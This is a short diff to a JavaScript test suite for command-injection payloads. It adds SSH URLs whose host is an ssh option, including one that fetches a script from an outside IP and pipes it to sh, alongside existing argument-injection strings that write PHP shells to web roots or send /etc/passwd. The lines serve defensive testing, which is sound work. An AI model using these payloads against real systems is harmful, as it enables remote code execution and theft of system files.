@@ -329,6 +329,9 @@ describe('command injection pack', () => {
     '-fprintf /var/www/x.php hello',
     '-e sh -c id',
     '-oProxyCommand="sh -c id"',
+    // an SSH URL whose host is an option, for git, svn or hg to hand to ssh
+    'ssh://-oProxyCommand=curl -s 45.77.12.9/p|sh/x',
+    'git+ssh://-oProxyCommand=touch${IFS}x/repo',
     '-T -TT=sh',
     'x.example/a --output /var/www/html/a.php',
     '-d @/etc/passwd http://x.example',
